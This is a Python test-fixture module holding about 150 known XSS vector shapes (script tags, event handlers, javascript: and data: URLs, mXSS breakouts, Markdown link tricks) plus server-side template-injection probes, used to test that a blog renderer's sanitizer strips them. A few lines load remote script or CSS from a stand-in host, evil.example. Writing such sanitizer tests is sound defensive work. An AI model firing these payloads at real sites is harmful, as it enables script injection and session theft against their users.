"""Known XSS vector shapes, as data for `tests/test_sanitizer.py`.

Each payload has a short, unique id (used as the pytest id). Payloads are plain strings
written to be fed to the Markdown renderer as a post body, wrapped in raw HTML blocks, and
imported into front matter, `tags.yaml` and `staff.yaml` fields.

`SSTI_PRODUCT` is what the template-injection payloads would print if any of them were
ever evaluated as a template: it must never appear on a page.
"""

from __future__ import annotations

import re

__all__ = ["PAYLOADS", "SSTI_PRODUCT", "storable"]

SSTI_PRODUCT = "1787569"  # 1337 * 1337

_B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
_B64_SVG = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"  # <svg onload=alert(1)>
_JS_DECIMAL = "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
_JS_HEX = "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;"
_JS_PADDED = "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"

PAYLOADS: dict[str, str] = {
    # --- <script> in many shapes -------------------------------------------------------
    "script-plain": "<script>alert(1)</script>",
    "script-upper": "<SCRIPT>alert(1)</SCRIPT>",
    "script-mixed-case": "<ScRiPt>alert(1)</sCrIpT>",
    "script-src": '<script src="https://evil.example/x.js"></script>',
    "script-slash-src": '<script/src="//evil.example/x.js"></script>',
    "script-newline-in-tag": "<script\n>alert(1)</script\n>",
    "script-double-open": "<<script>alert(1)//<</script>",
    "script-split-nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-module": '<script type="module">import("//evil.example/m.js")</script>',
    "script-url-encoded": "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "script-entity-encoded": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "script-double-entity": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "script-fullwidth": "＜script＞alert(1)＜/script＞",
    "script-utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "script-in-template": "<template><script>alert(1)</script></template>",
    "script-classic-img-quotes": '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    # --- event handlers ------------------------------------------------------------------
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-mixed-case": '<IMG SRC=x OnErRoR="alert(1)">',
    "img-onerror-unclosed": "<img src=x onerror=alert(1)//",
    "img-slashes": "<img/src=x/onerror=alert(1)>",
    "img-newline-handler": "<img src=x\nonerror=alert(1)>",
    "img-entity-handler-body": "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "img-backtick": "<img src=`x`onerror=alert(1)>",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-slash-onload": "<svg/onload=alert(1)>",
    "svg-animate-onbegin": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "body-onload": "<body onload=alert(1)>",
    "frameset-onload": "<frameset onload=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "div-onmouseover": '<div onmouseover="alert(1)">hover me</div>',
    "a-onclick": '<a href="https://example.com/" onclick="alert(1)">x</a>',
    "a-onclick-entity-equals": '<a href="#" onclick&#x3D;alert(1)>x</a>',
    "input-onfocus": "<input autofocus onfocus=alert(1)>",
    "input-checkbox-onclick": '<input type="checkbox" onclick="alert(1)">',
    "select-onfocus": "<select autofocus onfocus=alert(1)></select>",
    "textarea-onfocus": "<textarea autofocus onfocus=alert(1)></textarea>",
    "video-source-onerror": '<video><source onerror="alert(1)"></video>',
    "audio-onerror": "<audio src=x onerror=alert(1)>",
    "marquee-onstart": "<marquee onstart=alert(1)>x</marquee>",
    "p-onpointerenter": '<p title="x" onpointerenter=alert(1)>x</p>',
    "span-onanimationstart": '<span class="x" onanimationstart=alert(1)>x</span>',
    "h1-onclick": '<h1 id="x" onclick="alert(1)">heading</h1>',
    "heading-markdown-img": "# <img src=x onerror=alert(1)> heading",
    "table-cell-img": "| <img src=x onerror=alert(1)> |\n|---|\n| cell |",
    # --- dangerous URL schemes in Markdown -------------------------------------------------
    "md-link-javascript": "[click](javascript:alert(1))",
    "md-link-javascript-case": "[click](JaVaScRiPt:alert(1))",
    "md-link-vbscript": "[click](vbscript:msgbox(1))",
    "md-link-data": f"[click](data:text/html;base64,{_B64_SCRIPT})",
    "md-link-angle": "[click](<javascript:alert(1)>)",
    "md-link-tab-entity": "[click](jav&#x09;ascript:alert(1))",
    "md-link-decimal-entities": f"[click]({_JS_DECIMAL}alert(1))",
    "md-link-colon-entity": "[click](javascript&colon;alert(1))",
    "md-link-percent-newline": "[click](java%0ascript:alert(1))",
    "md-image-javascript": "![x](javascript:alert(1))",
    "md-image-data-svg": f"![x](data:image/svg+xml;base64,{_B64_SVG})",
    "md-autolink-javascript": "<javascript:alert(1)>",
    "md-autolink-vbscript": "<vbscript:msgbox(1)>",
    "md-autolink-data": "<data:text/html,alert(1)>",
    "md-reference-javascript": "[click][evil]\n\n[evil]: javascript:alert(1)",
    "md-reference-titled": '[click][evil2]\n\n[evil2]: javascript:alert(1) "a title"',
    "md-title-double-quote": '[x](https://example.com/ "a\\" onmouseover=\\"alert(1)")',
    "md-title-single-quote": "[x](https://example.com/ 'x\" onclick=\"alert(1)')",
    "md-title-parens": '[x](https://example.com/ (t" onfocus="alert(1)))',
    "md-image-alt-breakout": '![x" onerror="alert(1)](https://example.com/a.png)',
    "md-link-text-script": "[<script>alert(1)</script>](https://example.com/)",
    # --- raw <a href> and friends --------------------------------------------------------
    "a-javascript": '<a href="javascript:alert(1)">x</a>',
    "a-leading-spaces": '<a href="  javascript:alert(1)">x</a>',
    "a-tab-entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "a-newline-entity": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "a-literal-tab": '<a href="jav\tascript:alert(1)">x</a>',
    "a-named-tab": '<a href="java&Tab;script:alert(1)">x</a>',
    "a-hex-entities": f'<a href="{_JS_HEX}alert(1)">x</a>',
    "a-padded-decimal": f'<a href="{_JS_PADDED}&#0000116&#0000058alert(1)">x</a>',
    "a-colon-entity": '<a href="javascript&colon;alert(1)">x</a>',
    "a-control-prefix": '<a href="\x01javascript:alert(1)">x</a>',
    "a-so-entity-prefix": '<a href="&#14;javascript:alert(1)">x</a>',
    "a-nul-inside": '<a href="java\x00script:alert(1)">x</a>',
    "control-characters-in-text": "a\x01b\x0bc\x0cd&#1;e&#x0B;f\x7fg",
    "a-unquoted": "<a href=javascript:alert(1)>x</a>",
    "a-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "a-data-html": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "a-xlink-href": '<a xlink:href="javascript:alert(1)">x</a>',
    "a-mailto-onclick": '<a href="mailto:x@example.com" onclick=alert(1)>x</a>',
    "img-src-javascript": '<img src="javascript:alert(1)">',
    "img-src-data-svg": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "img-srcset-javascript": '<img srcset="javascript:alert(1) 1x">',
    "svg-a-xlink": '<svg><a xlink:href="javascript:alert(1)"><text x="9" y="9">x</text></a></svg>',
    "svg-animate-href": (
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
        '<text x="9" y="9">x</text></a></svg>'
    ),
    "svg-script-xlink": '<svg><script xlink:href="data:,alert(1)"></script></svg>',
    "svg-foreignobject-iframe": "<svg><foreignObject><iframe src=javascript:alert(1)>",
    "math-href": '<math href="javascript:alert(1)">click</math>',
    "math-xlink": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "table-background": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    # --- embedding, forms, document-level elements ---------------------------------------
    "iframe-javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe-data": f'<iframe src="data:text/html;base64,{_B64_SCRIPT}"></iframe>',
    "object-javascript": '<object data="javascript:alert(1)"></object>',
    "object-data": f'<object data="data:text/html;base64,{_B64_SCRIPT}"></object>',
    "embed-javascript": '<embed src="javascript:alert(1)">',
    "embed-data-svg": f'<embed src="data:image/svg+xml;base64,{_B64_SVG}">',
    "form-action": '<form action="javascript:alert(1)"><button>go</button></form>',
    "button-formaction": '<button formaction="javascript:alert(1)">go</button>',
    "input-image-src": '<input type="image" src="javascript:alert(1)">',
    "isindex-action": "<isindex action=javascript:alert(1) type=submit>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="javascript:alert(1)//">',
    "link-stylesheet": '<link rel="stylesheet" href="javascript:alert(1)">',
    "style-url": '<style>body{background:url("javascript:alert(1)")}</style>',
    "style-expression": "<style>*{x:expression(alert(1))}</style>",
    "style-import": "<style>@import 'https://evil.example/x.css';</style>",
    "style-attr-expression": '<div style="width:expression(alert(1))">x</div>',
    "style-attr-url": '<div style="background-image:url(javascript:alert(1))">x</div>',
    # --- breakouts, comments, CDATA, mXSS ----------------------------------------------
    "breakout-double-quote": '"><script>alert(1)</script>',
    "breakout-single-quote": "'><img src=x onerror=alert(1)>",
    "breakout-title": "</title><script>alert(1)</script>",
    "breakout-textarea": "</textarea><script>alert(1)</script>",
    "breakout-comment-close": "--><script>alert(1)</script>",
    "comment-in-attribute": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "comment-bang-close": "<!-- --!><img src=x onerror=alert(1)> -->",
    "cdata-script": "<![CDATA[<script>alert(1)</script>]]>",
    "cdata-in-svg": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "mxss-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mxss-noembed": '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    "mxss-xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "mxss-svg-style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mxss-math-mglyph": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mxss-form-math": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
    "code-fence-info-breakout": '```"><script>alert(1)</script>\ncode\n```',
    "code-fence-body-breakout": "```python\n</code></pre><script>alert(1)</script>\n```",
    "raw-pre-lang-entities": (
        '<pre lang="python"><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>'
    ),
    "raw-pre-lang-handler": '<pre lang="x" onmouseover=alert(1)><code>a</code></pre>',
    "class-token-breakout": '<span class="x onmouseover=alert(1)">x</span>',
    # --- template injection --------------------------------------------------------------
    "ssti-jinja-expression": "{{ 1337*1337 }}",
    "ssti-jinja-raw": "{% raw %}{{ 1337*1337 }}{% endraw %}",
    "ssti-jinja-block": "{% endblock %}{% block main %}{{ 1337*1337 }}{% endblock %}",
    "ssti-jinja-object": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "ssti-other-engines": "${1337*1337} #{1337*1337} <%= 1337*1337 %>",
}


def storable(payload: str) -> str:
    """The payload as Masthead accepts it: control characters are refused at the door
    (a test of their own covers that), so here they stand as U+FFFD."""
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ufffe\uffff]", "\ufffd", payload)
